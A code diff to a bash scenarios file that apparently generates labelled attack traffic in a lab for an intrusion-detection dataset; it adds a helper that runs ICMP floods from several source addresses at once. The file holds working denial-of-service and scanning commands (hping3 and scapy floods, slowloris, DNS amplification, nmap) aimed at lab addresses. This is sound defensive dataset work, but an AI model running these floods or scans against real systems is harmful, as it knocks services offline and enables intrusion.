@@ -6,17 +6,30 @@
 # wordlists and -t 2, slowhttptest -l, sqlmap timeout). Sourced by run.sh.
 #
 # A scenario line: "scenario label family victim_ip function [args...]". The function runs in a
-# background subshell with ATK_NS (attacker namespace) and ATK_IP set.
+# background subshell with ATK_NS (attacker namespace) and ATK_IP set. "bots N function args"
+# runs it from N addresses at once (see botnet_run; run.sh allocates them).
 
 P=$LAB_DIR/payloads
 HYDRA_OPTS=(-t 2 -W 1 -I -q -o /dev/null)
 
 # --- floods (dos) -------------------------------------------------------------------------
+# SRC_IP, set by botnet_run, picks one of the attacker namespace's own addresses as source.
 hping_flood() { # MODE-ARGS... : hping3 with a bounded count and interval
-  inns "$ATK_NS" timeout -k 2 40 hping3 -q "$@" "$SRV_IP" >/dev/null 2>&1 || true
+  inns "$ATK_NS" timeout -k 2 40 hping3 -q ${SRC_IP:+-a "$SRC_IP"} "$@" "$SRV_IP" >/dev/null 2>&1 || true
 }
 scapy_flood() { # KIND PORT COUNT INTERVAL
-  inns "$ATK_NS" timeout -k 2 40 "$LAB_PY" "$LAB_DIR/py/flood.py" "$1" "$SRV_IP" "$2" "$3" "$4" || true
+  inns "$ATK_NS" timeout -k 2 40 "$LAB_PY" "$LAB_DIR/py/flood.py" "$1" "$SRV_IP" "$2" "$3" "$4" ${SRC_IP:+"$SRC_IP"} || true
+}
+# botnet_run FUNCTION ARGS: FUNCTION once per address in BOT_IPS, all at once (several flooding
+# hosts). The project's flow key puts all echo requests between two hosts in one ICMP flow, so a
+# one-source ICMP flood would be a single labelled row.
+botnet_run() {
+  local ip pids=()
+  for ip in "${BOT_IPS[@]}"; do
+    SRC_IP=$ip "$@" &
+    pids+=($!)
+  done
+  wait "${pids[@]}" || true
 }
 slowloris() { # URL CONNECTIONS RATE INTERVAL DURATION
   inns "$ATK_NS" timeout -k 2 $(($5 + 15)) slowhttptest -H -u "$1" -c "$2" -r "$3" -i "$4" -l "$5" -x 24 -p 3 >/dev/null 2>&1 || true
@@ -73,7 +86,7 @@ HS=https://$SRV_IP
 TRAIN_SCENARIOS=(
   "syn-flood-hping3 syn-flood dos $SRV_IP hping_flood -S -p 80 -c 3000 -i u300"
   "udp-flood-hping3 udp-flood dos $SRV_IP hping_flood --udp -p 9999 -d 100 -c 3000 -i u300"
-  "icmp-flood-hping3 icmp-flood dos $SRV_IP hping_flood --icmp -d 64 -c 2000 -i u400"
+  "icmp-flood-hping3 icmp-flood dos $SRV_IP bots 6 hping_flood --icmp -d 64 -c 500 -i u800"
   "slowloris-http slowloris dos $SRV_IP slowloris $H/ 150 50 5 15"
   "dns-amp-txt-apex dns-amplification dos $VICTIM_IP dns_amp $LAB_ZONE TXT 400 0.01"
   "nmap-connect portscan-connect scan $SRV_IP nmap_scan -sT -p 1-1024 --max-rate 1500"
@@ -99,7 +112,7 @@ TRAIN_SCENARIOS=(
 HOLDOUT_SCENARIOS=(
   "syn-flood-scapy syn-flood dos $SRV_IP scapy_flood syn 443 1500 0.002"
   "udp-flood-scapy udp-flood dos $SRV_IP scapy_flood udp 5353 1500 0.002"
-  "icmp-flood-scapy icmp-flood dos $SRV_IP scapy_flood icmp 0 800 0.002"
+  "icmp-flood-scapy icmp-flood dos $SRV_IP bots 4 scapy_flood icmp 0 300 0.002"
   "slowloris-https slowloris dos $SRV_IP slowloris $HS/ 60 20 3 10"
   "dns-amp-txt dns-amplification dos $VICTIM_IP dns_amp big.$LAB_ZONE TXT 200 0.02"
   "nmap-connect-top portscan-connect scan $SRV_IP nmap_scan -sT -T3 --top-ports 300 --max-rate 600"
